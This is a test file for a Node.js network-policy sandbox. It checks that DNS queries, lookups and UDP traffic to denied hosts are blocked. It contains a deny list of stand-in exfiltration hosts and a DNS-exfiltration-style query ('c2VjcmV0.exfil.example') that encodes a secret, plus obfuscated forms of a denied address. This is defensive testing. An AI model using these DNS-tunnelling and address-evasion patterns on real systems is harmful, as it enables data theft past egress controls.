import dgram from 'node:dgram';
import dns from 'node:dns';
import { once } from 'node:events';
import { promisify } from 'node:util';
import t from 'tap';
import { label, run } from '@palisade/core';
import { dnsStub } from '../../../test/helpers/dns-stub.js';
import { recorded, tick, udpServer, usePolicy } from './helpers/network.js';

const DENY = { deny: { 'net.connect': ['*.exfil.example', 'blocked.example', '127.0.0.2', '*.10.in-addr.arpa'] } };

function settle<T>(fn: (cb: (err: NodeJS.ErrnoException | null, value?: T) => void) => void): Promise<{ code?: string; value?: T }> {
  return new Promise((resolve) => fn((err, value) => resolve(err ? { code: err.code } : { value })));
}

async function rejection(p: Promise<unknown>): Promise<string | undefined> {
  try {
    await p;
    return undefined;
  } catch (err) {
    return (err as { code?: string }).code;
  }
}

t.test('dns queries for a denied name never leave the process (callback, promise, Resolver, any record type)', async (t) => {
  usePolicy(t, DENY);
  const stub = await dnsStub();
  t.teardown(() => stub.close());
  const server = `${stub.host}:${stub.port}`;
  const resolver = new dns.Resolver();
  resolver.setServers([server]);
  const presolver = new dns.promises.Resolver();
  presolver.setServers([server]);
  const name = 'c2VjcmV0.exfil.example';
  t.equal((await settle((cb) => resolver.resolve4(name, cb))).code, 'ERR_PALISADE_DENIED', 'Resolver#resolve4');
  t.equal((await settle((cb) => resolver.resolve(name, 'TXT', cb))).code, 'ERR_PALISADE_DENIED', "Resolver#resolve(name, 'TXT')");
  t.equal((await settle((cb) => resolver.resolveTxt(`${name}.`, cb))).code, 'ERR_PALISADE_DENIED', 'trailing dot');
  t.equal(await rejection(presolver.resolve4(name.toUpperCase())), 'ERR_PALISADE_DENIED', 'promises Resolver, upper case');
  t.equal(await rejection(presolver.resolveAny('blocked.example')), 'ERR_PALISADE_DENIED');
  t.equal((await settle((cb) => resolver.reverse('10.1.2.3', cb))).code, 'ERR_PALISADE_DENIED', 'reverse: the PTR name 3.2.1.10.in-addr.arpa');
  t.same((await settle<string[]>((cb) => resolver.resolve4('fine.example', cb))).value, ['127.0.0.1'], 'an allowed name is answered');
  t.same(stub.queries, ['fine.example'], 'the stub saw only the allowed query');
});

t.test('module-level dns functions, before and after dns.setServers rebinds them', async (t) => {
  usePolicy(t, DENY);
  const stub = await dnsStub();
  t.teardown(() => stub.close());
  const previous = dns.getServers();
  t.teardown(() => dns.setServers(previous));
  t.equal((await settle((cb) => dns.resolveTxt('x.exfil.example', cb))).code, 'ERR_PALISADE_DENIED', 'default resolver');
  dns.setServers([`${stub.host}:${stub.port}`]);
  t.equal((await settle((cb) => dns.resolve4('y.exfil.example', cb))).code, 'ERR_PALISADE_DENIED', 'after setServers');
  t.equal(await rejection(dns.promises.resolve4('z.exfil.example')), 'ERR_PALISADE_DENIED', 'dns.promises');
  t.same((await settle<string[]>((cb) => dns.resolve4('ok.example', cb))).value, ['127.0.0.1']);
  t.same(stub.queries, ['ok.example']);
});

t.test('dns.lookup: names checked; empty and numeric hosts (no query) pass; Node’s own errors unchanged', async (t) => {
  usePolicy(t, DENY);
  t.equal((await settle((cb) => dns.lookup('a.exfil.example', cb))).code, 'ERR_PALISADE_DENIED');
  t.equal((await settle((cb) => dns.lookup('blocked.example', { all: true }, cb))).code, 'ERR_PALISADE_DENIED');
  t.equal(await rejection(dns.promises.lookup('b.exfil.example')), 'ERR_PALISADE_DENIED');
  t.equal(await rejection(promisify(dns.lookup)('c.exfil.example')), 'ERR_PALISADE_DENIED', 'util.promisify');
  t.same((await settle((cb) => dns.lookup('localhost', { family: 4 }, cb))).value, '127.0.0.1');
  t.equal((await settle((cb) => dns.lookup('2130706434', cb))).value, '127.0.0.2', 'numeric form of a denied address: no query, no check');
  t.throws(() => dns.lookup('localhost', undefined as never), { code: 'ERR_INVALID_ARG_TYPE' });
  t.throws(() => dns.resolve4(5 as never, () => {}), { code: 'ERR_INVALID_ARG_TYPE' });
  t.equal((await settle((cb) => dns.lookupService('10.0.0.1', 22, cb))).code, 'ERR_PALISADE_DENIED', 'lookupService asks for the PTR name');
});

t.test('setServers to a denied DNS server throws and keeps the previous servers', async (t) => {
  usePolicy(t, DENY);
  const resolver = new dns.Resolver();
  const before = resolver.getServers();
  t.throws(() => resolver.setServers(['127.0.0.2']), { code: 'ERR_PALISADE_DENIED', target: '127.0.0.2:53' });
  t.throws(() => dns.setServers(['1.1.1.1', '[::ffff:127.0.0.2]:5353']), { code: 'ERR_PALISADE_DENIED' });
  t.same(resolver.getServers(), before);
  t.throws(() => resolver.setServers(['not an ip']), { code: 'ERR_INVALID_IP_ADDRESS' });
});

t.test('dgram send to a denied address: callback or error event, nothing arrives', async (t) => {
  usePolicy(t, DENY);
  const records = recorded(t);
  const target = await udpServer(t);
  const sock = dgram.createSocket('udp4');
  t.teardown(() => sock.close());
  t.equal((await settle((cb) => sock.send('x', target.port, '127.0.0.2', cb))).code, 'ERR_PALISADE_DENIED');
  t.equal((await settle((cb) => sock.send(Buffer.from('xy'), 0, 1, target.port, '0x7f.2', cb))).code, 'ERR_PALISADE_DENIED', 'offset/length form, hex');
  sock.send('x', target.port, '127.0.0.2');
  t.match((await once(sock, 'error'))[0], { code: 'ERR_PALISADE_DENIED' }, 'no callback: error event');
  const named = dgram.createSocket({ type: 'udp4', lookup: (_h: string, _f: unknown, cb: (e: null, a: string, f: number) => void) => cb(null, '127.0.0.2', 4) });
  t.teardown(() => named.close());
  t.equal((await settle((cb) => named.send('x', target.port, 'innocent.example', cb))).code, 'ERR_PALISADE_DENIED', 'a name resolving to the denied address');
  t.throws(() => sock.send('x', 0, '127.0.0.1'), { code: 'ERR_SOCKET_BAD_PORT' });
  await tick();
  t.equal(target.datagrams, 0);
  t.ok(records.some((r) => r.api === 'dgram.send' && r.target === `innocent.example:${target.port} (127.0.0.2)`), 'the answer was what was denied');
});

t.test('dgram connect: denied connect fails; a connected socket is re-checked per send', async (t) => {
  usePolicy(t, { ...DENY, flows: [{ when: ['untrusted'], deny: ['net.connect'] }] });
  const denied = await udpServer(t);
  const allowed = await udpServer(t, '127.0.0.1');
  const a = dgram.createSocket('udp4');
  t.teardown(() => a.close());
  t.equal((await settle((cb) => a.connect(denied.port, '127.0.0.2', cb as never))).code, 'ERR_PALISADE_DENIED');
  const b = dgram.createSocket('udp4');
  t.teardown(() => b.close());
  await settle((cb) => b.connect(allowed.port, '127.0.0.1', cb as never));
  await settle((cb) => b.send('one', cb));
  await run({ agent: 'test' }, async () => {
    label('untrusted');
    t.equal((await settle((cb) => b.send('two', cb))).code, 'ERR_PALISADE_DENIED');
  });
  await tick();
  t.equal(denied.datagrams, 0);
  t.equal(allowed.datagrams, 1);
});

t.test('an explicit dgram bind is a listen; the bind a first send makes is not', async (t) => {
  usePolicy(t, { ...DENY, allow: { 'net.listen': ['127.0.0.1:*'] } });
  const target = await udpServer(t, '127.0.0.1');
  const s = dgram.createSocket('udp4');
  t.teardown(() => s.close());
  s.bind(0, '0.0.0.0');
  t.match((await once(s, 'error'))[0], { code: 'ERR_PALISADE_DENIED', capability: 'net.listen' });
  const client = dgram.createSocket('udp4');
  t.teardown(() => client.close());
  t.equal((await settle((cb) => client.send('x', target.port, '127.0.0.1', cb))).code, undefined, 'implicit bind passes');
});
